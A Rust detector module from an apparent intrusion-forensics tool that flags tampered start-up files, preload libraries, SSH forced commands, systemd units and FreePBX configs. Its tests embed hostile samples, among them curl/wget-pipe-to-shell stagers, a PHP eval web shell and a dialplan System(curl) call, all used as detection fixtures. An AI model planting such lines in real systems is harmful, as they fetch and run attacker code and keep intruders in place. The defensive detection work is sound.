//! Start-up files, libraries, keys and services that were changed so that the intruder's program runs.

use super::shell::{self, Sign};
use super::{Detector, Indicators, Inside, Report};
use crate::model::{Category, Evidence, EvidencePath, Finding, RawText, Severity, Subject};
use crate::parse::{Format, Limits, authorized_keys, freepbx_conf, systemd_unit};
use crate::sweep::Swept;
use std::sync::Arc;

/// Judges start-up files line by line.
pub struct TamperingDetector {
    indicators: Arc<Indicators>,
}

impl TamperingDetector {
    /// A detector with these indicators.
    pub fn new(indicators: Arc<Indicators>) -> Self {
        Self { indicators }
    }

    fn startup_script(&self, path: &EvidencePath, content: &[u8], report: &mut Report) {
        for (text, line) in content.split(|&b| b == b'\n').zip(1..) {
            let trimmed = text.trim_ascii();
            if trimmed.is_empty() || trimmed.starts_with(b"#") {
                continue;
            }
            for sign in shell::signs(trimmed) {
                // A profile may well start something from a home folder; what is told here has no other reason.
                let Some((severity, confidence)) = weigh(&sign) else { continue };
                let finding = Finding::new(
                    "TR-TAMPER-0002",
                    format!("Start-up file that {}", sign.describe()),
                    (Category::Persistence, severity, confidence),
                    Subject::Line { path: path.clone(), line, text: text.into() },
                    line_evidence(line, text, sign.path()),
                );
                report.findings.push(finding.with_attack(["T1546.004", "T1037.004"]));
            }
            if trimmed.starts_with(b"setsid wget") || trimmed.starts_with(b"setsid curl") {
                let finding = Finding::new(
                    "TR-TAMPER-0003",
                    "Start-up file that downloads out of sight",
                    (Category::Persistence, Severity::High, 75),
                    Subject::Line { path: path.clone(), line, text: text.into() },
                    line_evidence(line, text, None),
                );
                report.findings.push(finding.with_attack(["T1037.004", "T1105"]));
            }
            self.places(path, line, text, report);
        }
    }

    fn places(&self, path: &EvidencePath, line: u64, text: &[u8], report: &mut Report) {
        for word in text.split(|b| b.is_ascii_whitespace() || b"'\"|&;<>()`$=,".contains(b)) {
            let Some(named) = word.starts_with(b"/").then(|| EvidencePath::new(word).ok()).flatten() else { continue };
            for indicator in self.indicators.at(&named).filter(|indicator| indicator.severity >= Severity::High) {
                let finding = Finding::new(
                    "TR-TAMPER-0004",
                    "Start-up file that names a file of a known campaign",
                    (Category::Persistence, indicator.severity, indicator.confidence),
                    Subject::Line { path: path.clone(), line, text: text.into() },
                    line_evidence(line, text, Some(word)),
                );
                report.findings.push(finding.with_attack(["T1546.004"]));
            }
        }
    }
}

impl Detector for TamperingDetector {
    fn inspect(&self, file: &Swept<'_>, report: &mut Report) {
        let Some(content) = file.content.filter(|_| file.meta.is_file()) else { return };
        if file.path.as_bytes() == b"/etc/ld.so.preload" {
            preload(file, content, report);
        }
        if is_startup_script(file.path) {
            self.startup_script(file.path, content, report);
        }
        match Format::at(file.path) {
            Some(Format::AuthorizedKeys) => keys(file.path, content, report),
            Some(Format::SystemdUnit) => unit(file, content, report),
            Some(Format::FreepbxConf) => conf(file.path, content, report),
            _ => {}
        }
    }

    fn looks_inside(&self, inside: Inside) -> bool {
        inside == Inside::Member
    }
}

/// Files that a shell or the system runs by itself: `bash(1)` under "INVOCATION", and `rc.local`.
pub(super) fn is_startup_script(path: &EvidencePath) -> bool {
    const NAMES: [&[u8]; 9] = [
        b".bashrc",
        b".bash_profile",
        b".bash_login",
        b".bash_logout",
        b".profile",
        b".zshrc",
        b".zprofile",
        b".xprofile",
        b".login",
    ];
    const FILES: [&[u8]; 6] = [
        b"/etc/rc.local",
        b"/etc/rc.d/rc.local",
        b"/etc/profile",
        b"/etc/bashrc",
        b"/etc/bash.bashrc",
        b"/etc/zsh/zshrc",
    ];
    FILES.contains(&path.as_bytes())
        || path.parent().is_some_and(|folder| folder.as_bytes() == b"/etc/profile.d")
        || (NAMES.contains(&path.file_name()) && path.components().count() <= 4)
}

/// How bad and sure a sign is in what starts by itself; none where a person may have written it.
pub(super) fn weigh(sign: &Sign) -> Option<(Severity, u8)> {
    match sign {
        Sign::DownloadsAndRuns => Some((Severity::High, 85)),
        Sign::DecodesAndRuns | Sign::ConnectsShell | Sign::Mines => Some((Severity::High, 90)),
        Sign::WritesPhp(_) => Some((Severity::High, 80)),
        Sign::RunsFromTemporary(path) if shell::is_hidden(path) => Some((Severity::High, 85)),
        Sign::RunsFromTemporary(_) => Some((Severity::Medium, 60)),
        Sign::RunsHidden(path) if path.starts_with(b"/home/") || path.starts_with(b"/root/") => None,
        Sign::RunsHidden(_) => Some((Severity::High, 75)),
        Sign::RestartsIfMissing(_) => None,
    }
}

fn line_evidence(line: u64, text: &[u8], path: Option<&[u8]>) -> Vec<Evidence> {
    let mut evidence = vec![Evidence::Line { line, text: text.into() }];
    evidence.extend(path.map(|path| Evidence::Attribute { name: "path".into(), value: path.into() }));
    evidence
}

/// `ld.so(8)` loads what this file names into every program; nothing that a distribution ships is in it.
fn preload(file: &Swept<'_>, content: &[u8], report: &mut Report) {
    let libraries = content
        .split(|&b| b == b'\n')
        .zip(1..)
        .filter_map(|(text, line)| {
            let text = text.split(|&b| b == b'#').next().unwrap_or_default().trim_ascii();
            (!text.is_empty()).then(|| Evidence::Line { line, text: text.into() })
        })
        .collect::<Vec<_>>();
    if libraries.is_empty() {
        return;
    }
    let is_evil = |evidence: &Evidence| matches!(evidence, Evidence::Line { text, .. } if shell::is_temporary(text.as_bytes()) || shell::is_hidden(text.as_bytes()));
    let confidence = if libraries.iter().any(is_evil) { 92 } else { 70 };
    let finding = Finding::new(
        "TR-TAMPER-0001",
        "Library that is loaded into every program",
        (Category::Tampering, Severity::High, confidence),
        Subject::File { path: file.path.clone(), sha256: file.sha256 },
        libraries,
    );
    report.findings.push(finding.with_attack(["T1574.006"]));
}

fn keys(path: &EvidencePath, content: &[u8], report: &mut Report) {
    let outcome = authorized_keys::parse(path, content, &Limits::default());
    report.gaps.extend(outcome.gaps);
    for key in outcome.value {
        let Some(command) = forced_command(key.options.as_bytes()) else { continue };
        let is_evil = shell::signs(&command).iter().any(|sign| weigh(sign).is_some());
        let (severity, confidence) = if is_evil { (Severity::High, 85) } else { (Severity::Info, 20) };
        let finding = Finding::new(
            "TR-TAMPER-0005",
            if is_evil {
                "SSH key whose login runs an intruder's command"
            } else {
                "SSH key whose login runs a command"
            },
            (Category::Persistence, severity, confidence),
            Subject::Line { path: key.path, line: key.line, text: key.text },
            vec![
                Evidence::Attribute { name: "command".into(), value: command.as_slice().into() },
                Evidence::Attribute { name: "fingerprint".into(), value: key.fingerprint.as_str().into() },
            ],
        );
        report.findings.push(finding.with_attack(["T1098.004"]));
    }
}

/// The value of `command="…"`, its escaped quotes undone.
fn forced_command(options: &[u8]) -> Option<Vec<u8>> {
    const NAME: &[u8] = b"command=\"";
    let start = options.to_ascii_lowercase().windows(NAME.len()).position(|window| window == NAME)? + NAME.len();
    let mut command = Vec::new();
    let mut bytes = options.get(start..)?.iter().copied();
    while let Some(byte) = bytes.next() {
        match byte {
            b'"' => break,
            b'\\' => command.extend(bytes.next()),
            byte => command.push(byte),
        }
    }
    Some(command)
}

fn unit(file: &Swept<'_>, content: &[u8], report: &mut Report) {
    let outcome = systemd_unit::parse(file.path, content, &Limits::default());
    report.gaps.extend(outcome.gaps);
    for setting in outcome.value {
        let value = setting.value.as_bytes();
        let mut reasons: Vec<(Severity, u8, &'static str, Option<Vec<u8>>)> = Vec::new();
        if setting.is_command() {
            // Prefixes of systemd.service(5) before the path.
            let start = value.iter().position(|b| !b"@-:+!|".contains(b)).unwrap_or(value.len());
            for sign in shell::signs(value.get(start..).unwrap_or_default()) {
                if let Some((severity, confidence)) = weigh(&sign) {
                    reasons.push((severity, confidence, sign.describe(), sign.path().map(<[u8]>::to_vec)));
                }
            }
        }
        if setting.key == "Environment" && super::find(value, b"LD_PRELOAD=").is_some() {
            let is_evil = [&b"/tmp/"[..], b"/dev/shm/", b"/."].iter().any(|place| super::find(value, place).is_some());
            let (severity, confidence) = if is_evil { (Severity::High, 85) } else { (Severity::Medium, 45) };
            reasons.push((severity, confidence, "loads a library into its program", None));
        }
        for (severity, confidence, what, path) in reasons {
            let text = RawText::from([setting.key.as_bytes(), b"=", value].concat());
            let mut evidence = vec![Evidence::Line { line: setting.line, text }];
            evidence.extend(path.map(|path| Evidence::Attribute { name: "path".into(), value: path.into() }));
            let finding = Finding::new(
                "TR-TAMPER-0006",
                format!("Service that {what}"),
                (Category::Persistence, severity, confidence),
                Subject::File { path: file.path.clone(), sha256: file.sha256 },
                evidence,
            );
            report.findings.push(finding.with_attack(["T1543.002"]));
        }
    }
}

/// `FreePBX` includes this file everywhere; a genuine one holds settings and one `require_once`.
fn conf(path: &EvidencePath, content: &[u8], report: &mut Report) {
    let outcome = freepbx_conf::parse(path, content, &Limits::default());
    report.gaps.extend(outcome.gaps);
    for extra in outcome.value.extra {
        // The whole line, so that it can be taken out; but one that holds the database's password as well is not shown.
        let line = usize::try_from(extra.line).unwrap_or(usize::MAX).saturating_sub(1);
        let whole = content.split(|&b| b == b'\n').nth(line).filter(|line| super::find(line, b"PASS").is_none());
        let text = whole.map_or_else(|| extra.text.clone(), RawText::from);
        let finding = Finding::new(
            "TR-TAMPER-0007",
            "Code in FreePBX's settings that no installer writes",
            (Category::Tampering, Severity::High, 75),
            Subject::Line { path: path.clone(), line: extra.line, text },
            vec![Evidence::Line { line: extra.line, text: extra.text }],
        );
        report.findings.push(finding.with_attack(["T1505.003", "T1554"]));
    }
}

#[cfg(test)]
#[allow(clippy::unwrap_used, clippy::indexing_slicing)]
mod tests {
    use super::super::testing::{Scene, ids};

    const KEY: &str = include_str!("../../../testdata/authorized_keys/plain_ed25519.in");

    #[test]
    fn clean_start_up_files_give_nothing() {
        let bashrc = "# ~/.bashrc\ncase $- in\n    *i*) ;;\n      *) return;;\nesac\n[ -x /usr/bin/lesspipe ] && eval \"$(SHELL=/bin/sh lesspipe)\"\nif [ -f ~/.bash_aliases ]; then\n    . ~/.bash_aliases\nfi\n[ -s \"$NVM_DIR/nvm.sh\" ] && . \"$NVM_DIR/nvm.sh\"\n. \"/root/.cargo/env\"\n";
        let rc = "#!/bin/sh -e\n# curl http://192.0.2.1 | sh\ntouch /var/lock/subsys/local\n/usr/local/bin/start &\nexit 0\n";
        let unit = "[Unit]\nDescription=x\n[Service]\nExecStart=/usr/sbin/asterisk -f -C /etc/asterisk/asterisk.conf\nExecStartPre=-/bin/sh -c 'test -d /run/asterisk || mkdir /run/asterisk'\nEnvironment=HOME=/var/lib/asterisk\n";
        let findings = Scene::new()
            .file("/root/.bashrc", bashrc)
            .file("/etc/rc.local", rc)
            .file("/etc/ld.so.preload", "# nothing\n\n")
            .file("/etc/systemd/system/asterisk.service", unit)
            .file("/root/.ssh/authorized_keys", KEY)
            .file("/etc/freepbx.conf", include_str!("../../../testdata/freepbx_conf/debian_12.in"))
            .findings();
        assert!(findings.is_empty(), "{findings:#?}");
    }

    #[test]
    fn stagers_are_found() {
        for (path, text, rule) in [
            ("/root/.bash_profile", "curl -s http://192.0.2.1/x | bash", "TR-TAMPER-0002 high"),
            ("/etc/rc.d/rc.local", "setsid wget -q http://192.0.2.1/x -O /opt/x", "TR-TAMPER-0003 high"),
            ("/etc/rc.local", "bash /var/lib/asterisk/bin/zen2 &", "TR-TAMPER-0004 critical"),
            ("/etc/ld.so.preload", "/usr/local/lib/libx.so\n", "TR-TAMPER-0001 high"),
            ("/etc/systemd/system/x.service", "[Service]\nExecStart=-/tmp/.x/run\n", "TR-TAMPER-0006 high"),
            (
                "/etc/systemd/system/x.service",
                "[Service]\nExecStart=/bin/bash -c 'wget -qO- http://192.0.2.1/x | sh'\n",
                "TR-TAMPER-0006 high",
            ),
            ("/etc/freepbx.conf", "<?php\nexit; eval($_POST['x']);\n", "TR-TAMPER-0007 high"),
            (
                "/etc/asterisk/extensions_custom.conf",
                "exten => s,1,System(curl http://45.234.176.202/)\n",
                "TR-IOC-0102 critical",
            ),
            (
                "/root/.ssh/authorized_keys",
                "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQCLLJeL3g2dbjGE/dAAAA x\n",
                "TR-IOC-0107 critical",
            ),
        ] {
            let findings = Scene::new().file(path, text).findings();
            assert!(ids(&findings).contains(&rule.to_owned()), "{path}: {:?}", ids(&findings));
        }
    }

    #[test]
    fn a_password_beside_the_code_is_not_printed() {
        let text = "<?php $amp_conf['AMPDBPASS'] = 'hunter2'; exit;\n$amp_conf['AMPDBPASS'] = \"hunter2$x\";\n";
        let findings = Scene::new().file("/etc/freepbx.conf", text).findings();
        assert_eq!(ids(&findings), ["TR-TAMPER-0007 high"; 2]);
        assert!(!serde_json::to_string(&findings).unwrap().contains("hunter2"));
    }

    #[test]
    fn a_forced_command_is_told_and_an_evil_one_is_high() {
        let key = KEY.trim();
        let text = format!(
            "command=\"/usr/bin/rrsync /srv\",restrict {key}\ncommand=\"bash -c \\\"curl http://192.0.2.1 | sh\\\"\" {key}\n"
        );
        let findings = Scene::new().file("/root/.ssh/authorized_keys", text).findings();
        assert_eq!(ids(&findings), ["TR-TAMPER-0005 high", "TR-TAMPER-0005 info"]);
    }
}
